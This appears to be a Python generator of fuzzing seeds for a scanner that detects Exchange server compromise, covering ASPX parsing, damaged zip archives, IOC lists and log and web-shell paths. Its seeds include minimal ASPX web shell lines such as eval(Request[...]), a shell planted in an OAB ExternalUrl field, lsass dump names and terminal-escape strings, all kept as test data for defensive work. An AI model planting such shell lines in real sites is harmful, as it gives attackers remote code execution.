    s["unterminated-comment"] = bytes([CS]) + b"<% /* never closed %> <% eval(Request[\"a\"]) %>"
    s["unterminated-server-comment"] = bytes([CS]) + b"<%-- never closed <% eval(1) %>"
    s["unterminated-directive"] = bytes([CS]) + b"<%@ Page Language=\"VB"
    s["unterminated-script-tag"] = bytes([JS]) + b"<script runat='server' language=vb"
    s["unterminated-script-body"] = bytes([JS]) + b"<script runat=\"server\">eval(Request.Form('x'))"
    s["unterminated-escape"] = bytes([CS]) + b"<% x = \"\\"
    s["unterminated-hex-escape"] = bytes([JS]) + b"<% x = '\\x4"
    s["unterminated-unicode-escape"] = bytes([JS]) + b"<% x = '\\u00"
    s["unterminated-vb-string"] = bytes([VB]) + b"<% x = \"a\"\"\nb\" %>"
    s["script-tag-too-long"] = bytes([CS]) + b"<script runat=server " + b"a" * 2100 + b">eval(x)</script>"
    s["script-tags-odd"] = bytes([CS]) + (
        b"<scripts runat=server>no</scripts><script>client</script><SCRIPT RUNAT = \"Server\" "
        b"LANGUAGE = 'VB'>Execute Request(\"x\")</SCRIPT><script runat=server language=c#>"
        b"x();</script><script runat=serverx>y()</script><script runat=\"server\" language>")
    s["directives"] = bytes([VB]) + (
        b"<%@ Page Language=\"C#\" %><%@ Control Language='VB' %><%@ Master Language=cs %>"
        b"<%@ Application Language=\"JScript\" %><%@ WebService Language=\"javascript\" Class=x %>"
        b"<%@ Import Namespace=\"System.IO\" %><%@language%><%@ Page language = vb %>"
        b"<%@ Page xlanguage=\"vb\" %><%@Page%><% x = 1 %>")
    s["source-leading-directive"] = bytes([CS]) + b"\r\n  \t<%@ WebService Language=\"VB\" Class=\"S\" %>\nPublic x"
    s["region-prefixes"] = bytes([CS]) + b"<%=a%><%:b%><%#c%><%$d%><%%><%=%><%"
    s["punct-and-braces"] = bytes([CS]) + b"<% {{{;;;}}};;{}{ a==b != c >= d => e <<= 1 ?? f?.g ^ ~h @ @1 @\"\" %>"
    s["vb-colons-and-lines"] = bytes([VB]) + b"<%\n\n::a:b\n\r\nrem\nREM x\nremx = 1 : rem y\n'c\n%>"
    s["vb-escaped-names"] = bytes([VB]) + (
        b"<% Dim [Assembly] = [System].[Reflection].[Assembly].Load(x)\n[Rem] = 1 : [] = [1x] : "
        b"[_a$\xc3\xa9] [a b] [abc %><% [tail")
    s["identifiers-unicode"] = bytes([CS]) + "<% var \u00fcber = \u4e2d\u6587; $jq._x1 = 9abc; _0xdeadbeef(); %>".encode()
    s["numbers"] = bytes([JS]) + b"<% 0 1 0x1F 1.2.3 1e10 9_000 0b1010 12L 3.14f .5 %>"
    s["comments-everywhere"] = bytes([CS]) + (
        b"<% a // c %> b\n%><% /* c */ d /**/ e /*/ f */ g // end"
        b"\n'vb comment' h %><%-- c --%><%--%><%---->")
    s["bytes-high"] = bytes([CS]) + b"<% \x80\xff\xfe\xc3\xa9 x\x00y \x7f \x01 %>"
    s["lt-only"] = bytes([CS]) + b"<" * 64
    # '{' is a statement end, itself and another end: two tokens a byte, so
    # this page passes EXH_CODE_MAX_TOKENS (1 << 20) and is truncated, with a
    # string literal just past the cap
    s["token-cap.aspx"] = bytes([CS]) + b"<%" + b"{" * (1 << 19) + b"\"past the cap\" x %><% y %>"
    s["empty-page"] = bytes([VB])
    s["one-byte"] = bytes([JS]) + b"<"
    s["oab-dump.aspx"] = bytes([CS]) + (
        "Name                            : OAB (Default Web Site)\r\n"
        "PollInterval                    : 480\r\n"
        "OfflineAddressBooks             : \\Default Offline Address Book\r\n"
        "RequireSSL                      : True\r\n"
        "InternalUrl                     : https://mail.example.test/OAB\r\n"
        "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">"
        "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>\r\n").encode()
    return s


# ------------------------------------------------------------------ zip --
# Archives built with zipfile (stored, fixed dates: deterministic), then
# damaged by hand.


def make_zip(members, comment=b"", member_comment=b"", extra=b""):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2021, 3, 3, 2, 11, 4))
            zi.compress_type = zipfile.ZIP_STORED
            zi.create_system = 0
            zi.external_attr = 0
            if member_comment:
                zi.comment = member_comment
            if extra:
                zi.extra = extra
            z.writestr(zi, data)
        z.comment = comment
    return buf.getvalue()


def eocd_at(z):
    return z.rfind(b"PK\x05\x06")


def patch(z, off, fmt, *vals):
    v = bytearray(z)
    struct.pack_into(fmt, v, off, *vals)
    return bytes(v)


DUMP_MEMBERS = [("lsass.dmp", b"MDMP" + b"\0" * 28), ("readme.txt", b"hello\n"),
                ("dir/", b""), ("dir/sub/lsass.zip", b"PK\x05\x06" + b"\0" * 18)]


def zip_seeds():
    s = {}
    good = make_zip(DUMP_MEMBERS)
    e = eocd_at(good)
    cd_off = struct.unpack_from("<I", good, e + 16)[0]
    s["valid-lsass.zip"] = good
    s["valid-one.zip"] = make_zip([("x.aspx", b"<% eval(1) %>")])
    s["valid-empty.zip"] = make_zip([])
    s["valid-comment.zip"] = make_zip(DUMP_MEMBERS[:2], comment=b"PK\x05\x06 a fake end record in the comment")
    s["valid-member-comments-extra.zip"] = make_zip(
        DUMP_MEMBERS, member_comment=b"member comment", extra=b"\x55\x54\x05\x00\x01\x00\x00\x00\x00")
    s["valid-utf8-names.zip"] = make_zip([("\u00fcber/\u4e2d\u6587.txt", b"x"),
                                          ("C:\\Windows\\Temp\\l\u0073ass.DMP", b"y")])
    s["valid-long-name.zip"] = make_zip([("d/" * 200 + "lsass.dmp", b"")])
    s["valid-many.zip"] = make_zip([("m%03d.bin" % i, b"") for i in range(120)])
    s["sfx-prefix.zip"] = b"MZ" + b"\0" * 200 + good  # offsets relative to the archive, not the file
    s["two-archives.zip"] = good + make_zip([("second.txt", b"2")])
    s["truncated-in-cd.zip"] = good[:cd_off + 30]
    s["truncated-before-eocd.zip"] = good[:e + 10]
    s["eocd-only.zip"] = b"PK\x05\x06" + b"\0" * 18
    s["eocd-only-short.zip"] = b"PK\x05\x06" + b"\0" * 17
    s["count-too-big.zip"] = patch(good, e + 10, "<H", 0xFFFF)
    s["count-zero.zip"] = patch(good, e + 10, "<H", 0)
    s["cd-size-past-end.zip"] = patch(good, e + 12, "<I", 0xFFFFFFF0)
    s["cd-off-past-end.zip"] = patch(good, e + 16, "<I", len(good) + 1)
    s["cd-off-in-eocd.zip"] = patch(patch(good, e + 16, "<I", e), e + 12, "<I", 22)
    s["cd-off-zero.zip"] = patch(good, e + 16, "<I", 0)
    s["zip64-markers.zip"] = patch(patch(patch(good, e + 10, "<H", 0xFFFF), e + 12, "<I", 0xFFFFFFFF),
                                   e + 16, "<I", 0xFFFFFFFF)
    s["name-len-past-cd.zip"] = patch(good, cd_off + 28, "<H", 0xFFFF)
    s["extra-len-huge.zip"] = patch(good, cd_off + 30, "<H", 0xFFFF)
    s["comment-len-huge.zip"] = patch(good, cd_off + 32, "<H", 0xFFF0)
    s["bad-cd-signature.zip"] = patch(good, cd_off, "<I", 0x02014b51)
    second = cd_off + 46 + len(DUMP_MEMBERS[0][0])
    s["bad-second-signature.zip"] = patch(good, second, "<I", 0x04034b50)
    s["eocd-comment-len-wrong.zip"] = patch(good, e + 20, "<H", 0x1234)
    s["zero-name-len.zip"] = patch(good, cd_off + 28, "<H", 0)
    # a central directory whose headers point back into each other
    v = bytearray(make_zip([("a", b""), ("b", b"")]))
    ve = eocd_at(bytes(v))
    struct.pack_into("<H", v, ve + 10, 50)
    s["count-more-than-headers.zip"] = bytes(v)
    s["not-a-zip.txt"] = b"just some text, no PK here\n" * 3
    s["pk-noise.bin"] = (b"PK\x01\x02" + b"PK\x05\x06") * 12
    s["tiny"] = b"PK"
    s["empty"] = b""
    return s


# ------------------------------------------------------------------ ioc --
# Byte 0: bit 0 load twice, bits 1-2 the self-made list's format (plain,
# MSTIC, Volexity, HvS), bit 3 a BOM on it, bits 5-7 all set the built-in
# lists. Every indicator below is made up (documentation ranges,
# example.test names, well-known hashes of nothing).

IO_TWICE, IO_BOM, IO_BUILTIN = 0x01, 0x08, 0xE0
IO_PLAIN, IO_MSTIC, IO_VOLEXITY, IO_HVS = 0x00, 0x02, 0x04, 0x06

H_MD5 = "0123456789abcdef0123456789ABCDEF"
H_SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
H_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def ioc_seeds():
    s = {}
    plain = "\n".join([
        "# hashes, one per line, with and without notes",
        H_MD5, H_SHA1.upper(), H_SHA256,
        H_SHA1 + ";web shell dropped in aspnet_client",
        H_SHA256 + ",comma note, with more commas",
        H_MD5 + " space note", H_MD5 + "\tTAB note", H_SHA1 + ";",
        "  " + H_SHA256 + "  ;  padded note  ",
        H_SHA256[:63], H_SHA256 + "0", "g" * 32, H_SHA1 + "x;note",
        "", "   ", "\t", "#", "# 203.0.113.7",
    ]) + "\n"
    s["plain-hashes"] = bytes([IO_PLAIN]) + plain.encode()
    s["plain-hashes-builtin-twice"] = bytes([IO_BUILTIN | IO_TWICE | IO_HVS]) + plain.encode()
    ips = "\r\n".join(["203.0.113.7", "198.51.100.9", " 192.0.2.1 ", "0.0.0.0", "255.255.255.255",
                       "256.1.1.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1..2.3", "1.2.3.4 note",
                       "1.2.3.4;x", ".1.2.3", "1.2.3.", "1234.1.1.1"]) + "\r\n"
    s["ips-crlf"] = bytes([IO_MSTIC]) + ips.encode()
    paths = "\n".join([
        "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx",
        "c:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx",
        "\\\\server\\share\\inetpub\\wwwroot\\aspnet_client\\system_web\\y.aspx",
        "%ProgramData%\\COM\\tool.exe", "%Public%", "%", "\\", "C:\\", "C:", "D:\\Users\\Public\\z.ps1",
        "\\ClientAccess\\ecp\\auth\\errorEE.aspx", "C:\\root\\windows\\users\\inetpub\\deep.aspx",
        "C:\\PerfLogs\\a b\\c.bat", "C:\\x;y,z\\w.aspx",
    ]) + "\n"
    s["windows-paths"] = bytes([IO_VOLEXITY]) + paths.encode()
    uas = "\n".join([
        "Mozilla/5.0 (compatible; ExampleBot/1.0; +http://bot.example.test/)",
        "python-requests/2.25.1", "curl/7.68.0", "abc", "abcd", "Microsoft WinRM Client",
        "ua\x01with control", "ExchangeServicesClient/0.0.0.0", "a+b c+d",
    ]) + "\n"
    s["user-agents"] = bytes([IO_HVS | IO_BOM]) + uas.encode()
    mstic = "\r\n".join([
        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
        "2021-03-02,2021-03-02," + H_SHA256 + ",sha256,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_SHA1 + ",sha1,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_MD5 + ",md5,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_MD5 + ",sha256,TLP:WHITE",
        "2021-03-02,2021-03-02,not-hex,sha256,TLP:WHITE",
        "2021-03-02,2021-03-02,C:\\inetpub\\wwwroot\\aspnet_client\\m.aspx,FilePath,TLP:WHITE",
        "2021-03-02,2021-03-02,/inetpub/x.aspx,fullpath,TLP:WHITE",
        "2021-03-02,2021-03-02,,FilePath,TLP:WHITE",
        "2021-03-02,2021-03-02,203.0.113.8,IPAddress,TLP:WHITE",
        "2021-03-02,2021-03-02,203.0.113,IPAddress,TLP:WHITE",
        "2021-03-02,2021-03-02,evil.example.test,Domain,TLP:WHITE",
        "2021-03-02,2021-03-02,\"Mozilla/5.0 (quoted, comma)\",UserAgent,TLP:WHITE",
        "2021-03-02,2021-03-02,x,,TLP:WHITE",
        "2021-03-02,2021-03-02",
        "only one field",
        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
    ]) + "\r\n"
    s["mstic-csv"] = bytes([IO_PLAIN]) + mstic.encode()
    s["mstic-csv-builtin"] = bytes([IO_BUILTIN | IO_MSTIC | IO_BOM]) + BOM + mstic.encode()
    volexity = "\n".join([
        "value,type,notes",
        "203.0.113.9,ipaddress,scanning host",
        "203.0.113.10,ipv4,",
        "203.0.113.11,ip",
        H_SHA256.upper() + ",sha256,\"a note, quoted\"",
        "C:\\inetpub\\wwwroot\\aspnet_client\\v.aspx,filepath,planted",
        "ExampleAgent/2.0 (like Gecko),useragent,odd agent",
        "bad.example.test,hostname,not used",
        "\"unterminated,type,notes",
        "\"\"\"\",\"\"type\"\",\"x\"\"y\"",
        ",,,,,,,,,,,,,",
    ]) + "\n"
    s["volexity-csv"] = bytes([IO_VOLEXITY]) + volexity.encode()
    hvs = "\n".join([
        "Type, Data, Note",
        "SHA256, " + H_SHA256 + ", ProxyShell web shell",
        "MD5 , " + H_MD5 + " , \"note, with comma\"",
        "FilePath, C:\\inetpub\\wwwroot\\aspnet_client\\570221043.aspx, HvS",
        "IPv4, 192.0.2.44, scanner",
        "User-Agent, Mozilla/5.0 zgrab/0.x, scanner",
        "Domain, x.example.test, c2",
        "Filename, shell.aspx, name only",
        "\"SHA1\",\"" + H_SHA1 + "\",\"quoted fields\"",
        "SHA1",
    ]) + "\n"
    s["hvs-csv"] = bytes([IO_HVS | IO_TWICE]) + hvs.encode()
    # a CSV header after plain lines, and plain lines after it
    s["mixed-formats"] = bytes([IO_TWICE]) + (plain + volexity + ips).encode()
    junk = (b"\x00\x01\x02 binary\n" + b"line with a NUL \x00 inside\n" + b"x" * 5000 + b"\n" +
            b"cr\ronly\rlines\r" + b"\n\xff\xfe\xc3\x28 invalid utf-8\n" + b"\x1b[31mred\x1b[0m\n" +
            b"  " + H_SHA1.encode() + b"\x00\n" + b"\t\t\n" + b"#" + b"," * 10 + b"\n")
    s["junk-lines"] = bytes([IO_MSTIC | IO_TWICE]) + junk
    s["utf16-list"] = bytes([IO_VOLEXITY]) + utf16le("203.0.113.7\r\n" + H_MD5 + "\r\n")
    s["no-final-eol"] = bytes([IO_HVS]) + H_SHA256.encode()
    s["lone-header"] = bytes([IO_BUILTIN]) + b"value,type"
    s["empty"] = bytes([IO_PLAIN])
    s["empty-builtin-bom"] = bytes([IO_BUILTIN | IO_BOM | IO_MSTIC])
    return s


# ----------------------------------------------------------------- scan --

SC_HTTPPROXY, SC_ECP, SC_OAB, SC_RPS, SC_W3C, SC_ZIP, SC_DMP, SC_BIN = range(8)
(SC_ASPNET_CLIENT, SC_OWA_AUTH, SC_ASP, SC_APP_WEB, SC_APPHOST, SC_ECP_AUTH, SC_PAGE_NAMED,
 SC_PUBLISHED) = range(8, 16)
SC_SINCE, SC_UNTIL, SC_HOST, SC_COLOR = 0x10, 0x20, 0x40, 0x80


def scan_seeds():
    s = {}
    hp = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["0-httpproxy-attack"] = bytes([SC_HTTPPROXY]) + hp
    s["0-httpproxy-since-until-host-color"] = bytes([SC_HTTPPROXY | SC_SINCE | SC_UNTIL | SC_HOST | SC_COLOR]) + hp
    s["0-httpproxy-2013-build"] = bytes([SC_HTTPPROXY]) + crlf(
        hp_prologue(version="15.00.1497.002") + hp_rows_benign())
    s["0-httpproxy-binary"] = bytes([SC_HTTPPROXY]) + b"\0\1\2binary log\0"
    s["0-httpproxy-fields-change"] = bytes([SC_HTTPPROXY]) + exlog_seeds()["httpproxy-fields-change.log"]
    s["1-ecp"] = bytes([SC_ECP]) + BOM + crlf(ecp_lines())
    s["1-ecp-since"] = bytes([SC_ECP | SC_SINCE]) + BOM + crlf(ecp_lines())
    s["2-oab"] = bytes([SC_OAB]) + BOM + crlf(oab_lines())
    s["2-oab-until-color"] = bytes([SC_OAB | SC_UNTIL | SC_COLOR]) + BOM + crlf(oab_lines())
    s["3-rps"] = bytes([SC_RPS]) + BOM + crlf(rps_lines())
    s["4-w3c"] = bytes([SC_W3C]) + crlf(W3C_LINES)
    s["4-w3c-host"] = bytes([SC_W3C | SC_HOST]) + crlf(W3C_LINES)
    zip_bytes = (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 16 + b"\x08\x00\x00\x00lsass.dmp"
                 + b"\x03\x00" + b"PK\x05\x06" + b"\0" * 18)
    s["5-programdata-zip"] = bytes([SC_ZIP]) + zip_bytes
    s["5-programdata-7z"] = bytes([SC_ZIP]) + b"7z\xbc\xaf\x27\x1c" + b"\0" * 26
    s["5-programdata-text"] = bytes([SC_ZIP]) + b"not an archive\n"
    s["6-lsass-dump"] = bytes([SC_DMP]) + minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["6-lsass-name-only"] = bytes([SC_DMP]) + b"just text"
    s["6-lsass-dump-since"] = bytes([SC_DMP | SC_SINCE]) + minidump([LSASS], stamp=1)
    s["7-bin-renamed-dump"] = bytes([SC_BIN]) + minidump(["c:\\windows\\system32\\LSASS.exe"])
    s["7-bin-ecp-content"] = bytes([SC_BIN]) + crlf(ecp_lines())
    s["7-bin-w3c-content"] = bytes([SC_BIN]) + lf(W3C_LINES)
    s["7-bin-rps-content"] = bytes([SC_BIN | SC_COLOR]) + lf(rps_lines())
    s["1-ecp-path-httpproxy-content"] = bytes([SC_ECP]) + lf(hp_prologue(plain=False) + hp_rows_attack())
    # terminal escapes, C1/bidi controls and invalid UTF-8 in logged values
    s["3-rps-hostile-text"] = bytes([SC_RPS]) + lf(["#Fields: " + RPS_FIELDS]) + (
        b"2021-03-03T02:24:33Z,,r,15,2,792,3,h\x1b[31m,/powershell,,,\x1b]0;pwn\x07,"
        b"104.140.114.110,EX\xff\xfe\xc0\x80,200,c,New-MailboxExportRequest,\xe2\x80\xae\xc2\x9b,"
        b"?q=\x7f\r\n")
    s["empty-file"] = bytes([SC_HTTPPROXY])
    # web pages and drops (paths 8-15)
    s["8-aspnet-client-cs-shell"] = bytes([SC_ASPNET_CLIENT]) + PAGE_CS.encode()
    s["8-aspnet-client-js-eval-utf16"] = bytes([SC_ASPNET_CLIENT | SC_COLOR]) + utf16le(PAGE_JS)
    s["8-aspnet-client-oab-dump"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["oab-dump.aspx"][1:]
    s["8-aspnet-client-pst-drop"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["pst-drop-utf16-even"][1:]
    s["8-aspnet-client-der-drop"] = bytes([SC_ASPNET_CLIENT | SC_SINCE]) + code_seeds()["der-drop-utf16-odd"][1:]
    s["8-aspnet-client-benign-upload"] = bytes([SC_ASPNET_CLIENT]) + (
        b"<%@ Page Language=\"C#\" %><% var f = Request.Files[0];"
        b" f.SaveAs(Server.MapPath(\"~/up/\") + Path.GetFileName(f.FileName)); %>")
    s["9-owa-auth-handler"] = bytes([SC_OWA_AUTH]) + SOURCE_ASHX.encode()
    s["10-classic-asp-vb"] = bytes([SC_ASP]) + PAGE_VB.encode()
    s["10-classic-asp-encoded"] = bytes([SC_ASP | SC_HOST]) + b"<%@ Language=VBScript.Encode %><%#@~^CAAAAA==x^#~@%>"
    s["11-app-web-compiled"] = bytes([SC_APP_WEB]) + b"MZ\x90\x00" + b"\0" * 60 + b"JScriptEvaluate\0" + \
        utf16le("/aspnet_client/", bom=False) + b"get_Request\0get_Item\0"
    s["11-app-web-compiled-place"] = bytes([SC_APP_WEB]) + b"MZ" + utf16le("http://f/", bom=False) + \
        b"get_Request\0get_Files\0"
    s["12-applicationhost-config"] = bytes([SC_APPHOST]) + (
        b"<configuration><system.applicationHost><sites><site name=\"Default Web Site\">"
        b"<application path=\"/\"><virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" />"
        b"</application><application path=\"/x\"><virtualDirectory path=\"/\" "
        b"physicalPath = 'C:\\ProgramData\\COM\\' /></application>"
        b"<virtualDirectory physicalPath=\"%Public%\\x\"/><virtualDirectory physicalPath=unquoted />"
        b"<virtualDirectory physicalPath=\"C:\\Users\\Public\\unterminated")
    s["13-ecp-auth-vb-source"] = bytes([SC_ECP_AUTH]) + SOURCE_VB.encode()
    s["14-page-named-pst"] = bytes([SC_PAGE_NAMED]) + code_seeds()["pst-drop-utf16-even"][1:]
    s["14-page-named-text"] = bytes([SC_PAGE_NAMED]) + PAGE_CS.encode()
    for name, (lang, page) in TECHNIQUE_PAGES.items():
        slot = {".asp": SC_ASP, ".ashx": SC_OWA_AUTH}.get(os.path.splitext(name)[1], SC_ASPNET_CLIENT)
        s["%d-%s" % (slot, name.rsplit(".", 1)[0])] = bytes([slot]) + page.encode()
    s["8-aspnet-client-obfuscated-js"] = bytes([SC_ASPNET_CLIENT]) + OBFUSCATED_JS.encode()
    s["15-published-name"] = bytes([SC_PUBLISHED | SC_SINCE | SC_UNTIL]) + b"<% Response.Write(\"ok\") %>"
    return s


def write_all(root):
    sets = {"exlog": exlog_seeds(), "minidump": minidump_seeds(), "match": match_seeds(),
            "scan": scan_seeds(), "code": code_seeds(), "zip": zip_seeds(), "ioc": ioc_seeds()}
    for target, seeds in sets.items():
        d = os.path.join(root, target)
        os.makedirs(d, exist_ok=True)
        for name, data in sorted(seeds.items()):
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        print("%s: %d seeds" % (target, len(seeds)))


if __name__ == "__main__":
    write_all(sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "corpus"))
